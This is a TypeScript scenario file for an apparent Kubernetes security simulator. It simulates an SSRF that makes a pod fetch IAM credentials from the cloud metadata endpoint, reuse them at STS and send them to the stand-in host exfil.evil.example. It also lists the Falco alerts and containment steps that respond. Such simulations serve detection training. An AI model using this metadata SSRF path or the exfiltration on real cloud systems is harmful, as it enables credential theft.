import { RULES } from '../../falco/rules.js';
import type { ScenarioDefinition, ScenarioRun } from '../kit.js';

const METADATA_IP = '169.254.169.254';
const EXFIL = { name: 'exfil.evil.example', ip: '198.51.100.99', port: 443, protocol: 'TCP' as const };

export const metadataCredentialTheft: ScenarioDefinition = {
  info: {
    name: 'metadata-credential-theft',
    title: 'SSRF to the cloud metadata endpoint and credential theft',
    description:
      'An SSRF in the avatar-import feature of api/user makes the pod fetch http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-node-role. The stolen node-role credentials are used against sts.amazonaws.com and the loot is uploaded to exfil.evil.example. Repeats every iteration.',
    expected: {
      falcoRules: [RULES.ec2Metadata.rule, RULES.cloudMetadata.rule],
      audit: [],
      flows: ['api/user pod → 169.254.169.254:80 (reserved:world)', 'api/user pod → sts.amazonaws.com:443', 'api/user pod → exfil.evil.example (198.51.100.99):443'],
      mitre: ['T1552.005', 'T1078.004', 'T1567'],
    },
    containment: ['NetworkPolicy denying the pod egress (or egress to 169.254.169.254/32 via ipBlock except): metadata flows become DROPPED and the alerts stop', 'Delete the pod: everything stops'],
    actor: { namespace: 'api', workload: 'user', kind: 'Deployment', container: 'user', serviceAccount: 'user' },
  },
  start(run: ScenarioRun) {
    run.deps.traffic.topology.registerExternal(EXFIL);
    const pod = run.chooseTarget('api', 'user');
    if (!pod) {
      run.phase('no target pod');
      return;
    }
    const base = { 'user.name': 'app', 'user.uid': 10001, 'proc.name': 'python', 'proc.exepath': '/usr/local/bin/python3.12', 'proc.pname': 'gunicorn' };
    run.container(pod)?.logs.push({ timeMs: Date.now(), text: `INFO:     10.244.2.4:51120 - "POST /api/v1/users/me/avatar?url=http://${METADATA_IP}/latest/meta-data/iam/security-credentials/shop-node-role HTTP/1.1" 200 OK` });
    const steal = () => {
      const target = run.target();
      if (!target) {
        run.setContained(true, 'compromised pod deleted');
        run.phase('contained: pod gone');
        return;
      }
      run.phase('querying metadata service');
      const result = run.connect(target, METADATA_IP, 80);
      if (result.verdict !== 'allowed') {
        run.setContained(true, 'egress to the metadata service denied by NetworkPolicy');
        run.phase('contained: egress blocked');
        return;
      }
      const fields = { ...base, 'evt.type': 'connect', 'proc.cmdline': 'python /usr/local/bin/gunicorn --bind 0.0.0.0:8080 --workers 2 app.main:app', 'fd.name': `${target.status?.podIP}:43602->${METADATA_IP}:80`, 'fd.rip': METADATA_IP, 'fd.rport': 80, 'fd.l4proto': 'tcp' };
      run.alert(RULES.ec2Metadata, target, fields);
      run.alert(RULES.cloudMetadata, target, fields);
      run.phase('using stolen credentials');
      run.connect(target, 'sts.amazonaws.com', 443);
      run.connect(target, EXFIL.name, EXFIL.port);
      run.setContained(false);
    };
    run.after(1500, steal);
    run.every(10_000, steal);
  },
};
